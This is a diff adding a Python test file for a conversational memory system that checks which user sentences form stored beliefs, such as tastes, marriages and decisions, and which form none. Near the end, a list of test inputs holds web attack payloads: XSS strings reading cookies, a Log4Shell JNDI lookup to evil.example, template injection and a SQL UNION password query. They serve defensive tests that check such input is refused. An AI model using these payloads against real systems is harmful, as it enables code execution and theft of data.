@@ -1,0 +1,251 @@
+"""Families of sentences, not single sentences: each pattern of real talk that formation got
+wrong or missed, told many ways (tense, negation, a hedge, a name or a pronoun, the other
+speaker saying it), with one rule, metamorphic: the same belief wherever the meaning is the
+same, and nothing of the family's kind wherever it is not.
+
+Every sentence is written for this file (none comes from the evaluation conversations). A
+"same" row names the statement that must form and must be the only one of the family's
+relations; a "nothing" row must form none of them (an ``A:`` prefix: the other speaker says it,
+which forms nothing of the principal's whatever the words).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+import pytest
+
+from engram.schemas.claims import ClaimsBatchFormed
+from engram.schemas.common import Role
+from tests.unit.formation.formed import batch
+
+
+@dataclass(frozen=True)
+class Family:
+    relations: frozenset[str]
+    same: tuple[tuple[str, str], ...]
+    nothing: tuple[str, ...]
+
+
+def _batch(sentence: str) -> ClaimsBatchFormed:
+    if sentence.startswith("A:"):
+        return batch(sentence[2:], Role.ASSISTANT)
+    return batch(sentence)
+
+
+def _of_family(sentence: str, family: Family) -> list[str]:
+    return [c.statement for c in _batch(sentence).candidates if c.relation in family.relations]
+
+
+FAMILIES: dict[str, Family] = {
+    # 1. A reason or a passion told about an activity is a lasting taste, not a reminder.
+    "reason_for_a_passion": Family(
+        frozenset({"prefers", "interested_in", "dislikes"}),
+        same=(
+            ("Moments like that remind me why I love climbing.", "speaker prefers climbing (topic:climbing)"),
+            ("Days like this remind me why I love sailing so much.", "speaker prefers sailing (topic:sailing)"),
+            ("That trip reminded me why I love hiking.", "speaker prefers hiking (topic:hiking)"),
+            ("It always reminds me how much I love painting!", "speaker prefers painting (topic:painting)"),
+            ("Honestly, that's why I love gardening.", "speaker prefers gardening (topic:gardening)"),
+            ("This is why I'm so passionate about pottery.", "speaker interested in pottery"),
+            ("Evenings like these remind me that I really enjoy cooking.", "speaker prefers cooking (topic:cooking)"),
+            ("Reminds me why I love baking.", "speaker prefers baking (topic:baking)"),
+            ("Nights like this remind me how much I hate crowds.", "speaker dislikes crowds (topic:crowds)"),
+        ),
+        nothing=(
+            "Remind me to book the climbing gym tomorrow.",
+            "Can you remind me why I signed up for climbing?",
+            "Moments like that remind me why I used to love climbing.",
+            "Moments like that make me wonder why I ever loved climbing.",
+            "Maybe that's why I love climbing.",
+            "She told me that's why she loves climbing.",
+            "It reminds me why you love climbing so much.",
+            "A:Moments like that remind me why I love climbing.",
+        ),
+    ),
+    # 2. A decision taken with someone named is the speaker's decision, with that person.
+    "decision_with_someone": Family(
+        frozenset({"committed_to", "intends_to"}),
+        same=(
+            ("Ana and I have decided to move in together!", "speaker committed to move in with Ana"),
+            ("Ana and I decided to move in together.", "speaker committed to move in with Ana"),
+            ("Me and Ana have decided to move in together.", "speaker committed to move in with Ana"),
+            ("Ana and I just decided to move in together", "speaker committed to move in with Ana"),
+            ("Ana and I finally decided to move in together last week.", "speaker committed to move in with Ana"),
+            ("My girlfriend Ana and I have decided to move in together.", "speaker committed to move in with Ana"),
+            ("Tom and I have decided to adopt a cat.", "speaker committed to adopt a cat with Tom"),
+            ("Tom and I decided to start a podcast together", "speaker committed to start a podcast with Tom"),
+        ),
+        nothing=(
+            "Ana and I haven't decided to move in together yet.",
+            "Ana and I might move in together.",
+            "Ana and I are thinking about moving in together.",
+            "Have Ana and I decided to move in together?",
+            "Ana and Tom have decided to move in together.",
+            "Ana decided to move in with her sister.",
+            "Ana and I decided against moving in together.",
+            "A:Ana and I have decided to move in together!",
+        ),
+    ),
+    # 3. Getting married forms the spouse however the event is worded.
+    "married": Family(
+        frozenset({"related_to"}),
+        same=(
+            ("I got married last week!", "speaker related to spouse (spouse)"),
+            ("Got married last week!", "speaker related to spouse (spouse)"),
+            ("Just got married!", "speaker related to spouse (spouse)"),
+            ("We got married last weekend.", "speaker related to spouse (spouse)"),
+            ("I'm married.", "speaker related to spouse (spouse)"),
+            ("I've been married for ten years.", "speaker related to spouse (spouse)"),
+            ("The place where I got married is lovely.", "speaker related to spouse (spouse)"),
+            ("We tied the knot last week.", "speaker related to spouse (spouse)"),
+            ("We had our wedding last summer.", "speaker related to spouse (spouse)"),
+            ("I'm getting married next month.", "speaker related to fiancé (fiancé)"),
+            ("We're getting married in June!", "speaker related to fiancé (fiancé)"),
+        ),
+        nothing=(
+            "My sister got married last week.",
+            "I'm not married.",
+            "I never got married.",
+            "If I got married I would move.",
+            "Tom got married in May.",
+            "I'd love to get married someday.",
+            "Are you married?",
+            "A:I got married last week!",
+        ),
+    ),
+    # 4. A pronoun or a bare verb is no object of a taste.
+    "pronoun_or_bare_verb": Family(
+        frozenset({"prefers", "interested_in", "dislikes", "learning"}),
+        same=(
+            ("I love making pottery.", "speaker prefers making pottery (topic:making pottery)"),
+            ("I'm passionate about sharing recipes.", "speaker interested in sharing recipes"),
+            ("I really enjoy baking bread.", "speaker prefers baking bread (topic:baking bread)"),
+        ),
+        nothing=(
+            "I love making him happy.",
+            "I love making her laugh.",
+            "I'm passionate about sharing that.",
+            "I really enjoy helping them.",
+            "I love seeing it grow.",
+            "I'm passionate about doing this.",
+            "I love spending time with you.",
+            "I love doing that for her.",
+            "I'm really into supporting them.",
+            "A:I love making him happy.",
+        ),
+    ),
+    # 5. A wish for the other speaker is theirs, not the principal's.
+    "wish_for_the_other": Family(
+        frozenset({"learning", "prefers", "interested_in", "participated_in", "intends_to", "member_of"}),
+        same=(("I'm learning pottery techniques.", "speaker learning pottery techniques"),),
+        nothing=(
+            "I hope you learn some new techniques.",
+            "Hope you learn some new techniques!",
+            "I hope you get to travel more.",
+            "I really hope you enjoy the concert.",
+            "I hope you start painting again.",
+            "Hope you find a good pottery class.",
+            "I hope that you join the choir.",
+            "I'm sure you'll learn some new techniques.",
+            "Hope you're learning a lot about painting.",
+            "A:I hope you learn some new techniques.",
+        ),
+    ),
+    # 6. "Managed to" says what was done, never whom the speaker manages.
+    "managed_to": Family(
+        frozenset({"manages"}),
+        same=(
+            ("I manage the data team.", "speaker manages data team"),
+            ("I manage a team of nurses.", "speaker manages team of nurses"),
+        ),
+        nothing=(
+            "I managed to ride my bike to work.",
+            "I manage to ride my bike to work every day.",
+            "I've managed to save some money.",
+            "I somehow managed to finish the race.",
+            "I finally managed to fix the sink.",
+            "I manage to run five miles most days.",
+            "I'll manage to make it work.",
+            "I can't manage to sleep lately.",
+            "A:I managed to ride my bike to work.",
+        ),
+    ),
+    # 10. A sentence that states a credential forms nothing at all.
+    "credential_told": Family(
+        frozenset(
+            {"prefers", "uses", "owns", "has_contact", "has_name", "requires", "committed_to"}
+        ),
+        same=(("I use a password manager.", "speaker uses password manager"),),
+        nothing=(
+            "I want my router password to be hunter2, remember it.",
+            "Remember that my wifi password is sunflower99.",
+            "My bank PIN is 4821, please remember it.",
+            "I'd like my backup passphrase to be correct horse battery staple.",
+            "Please remember my API key is sk-abc123def456ghi789jkl.",
+            "Remember my locker code: 5512.",
+            "My password for the gym app should be Tiger!2024.",
+            "I prefer my router password to be hunter2.",
+            "I use hunter2 as my password everywhere.",
+        ),
+    ),
+}  # fmt: skip
+
+SAME = [(name, s, b) for name, f in FAMILIES.items() for s, b in f.same]
+NOTHING = [(name, s) for name, f in FAMILIES.items() for s in f.nothing]
+
+
+def test_every_family_has_eight_sentences_or_more() -> None:
+    for name, family in FAMILIES.items():
+        assert len(family.same) + len(family.nothing) >= 8, name
+
+
+@pytest.mark.parametrize(("name", "sentence", "belief"), SAME, ids=[f"{n}:{s}" for n, s, _ in SAME])
+def test_a_sentence_that_means_the_belief_forms_it_and_nothing_else_of_its_kind(
+    name: str, sentence: str, belief: str
+) -> None:
+    assert _of_family(sentence, FAMILIES[name]) == [belief]
+
+
+@pytest.mark.parametrize(("name", "sentence"), NOTHING, ids=[f"{n}:{s}" for n, s in NOTHING])
+def test_a_sentence_that_does_not_mean_it_forms_nothing_of_its_kind(
+    name: str, sentence: str
+) -> None:
+    assert _of_family(sentence, FAMILIES[name]) == []
+
+
+MARKUP = (
+    "I use <script>alert(1)</script> every day.",
+    "I use <iframe src=x> daily.",
+    "I really love <img src=x onerror=alert(1)>.",
+    "I work at <b onclick=steal()>Acme</b>.",
+    "I use javascript:alert(document.cookie) for everything.",
+    "I prefer ${jndi:ldap://evil.example/a} as my logger.",
+    "I use {{constructor.constructor('alert(1)')()}} at work.",
+    "I work at Acme UNION SELECT password FROM users.",
+    "I love <svg onload=alert(1)> icons.",
+)
+"""Markup or code where a thing should be named (issue 35): refused, with the reason's detail
+saying so, and nothing formed."""
+
+
+@pytest.mark.parametrize("sentence", MARKUP)
+def test_markup_or_code_as_an_end_is_refused_with_its_reason(sentence: str) -> None:
+    formed = _batch(sentence)
+    assert formed.candidates == []
+    assert any(
+        r.reason == "instruction_shaped" and r.detail.startswith("markup or code")
+        for r in formed.refusals
+    ), [(r.statement, r.reason, r.detail) for r in formed.refusals]
+
+
+@pytest.mark.parametrize(
+    ("sentence", "belief"),
+    [
+        ("I use VS Code at work.", "speaker uses VS Code"),
+        ("I love C++.", "speaker prefers C++ (programming language)"),
+        ("I live in Porto and I'm debugging <div> layouts all week.", "speaker lives in Porto"),
+    ],
+)
+def test_a_thing_beside_markup_still_forms(sentence: str, belief: str) -> None:
+    assert belief in [c.statement for c in _batch(sentence).candidates]
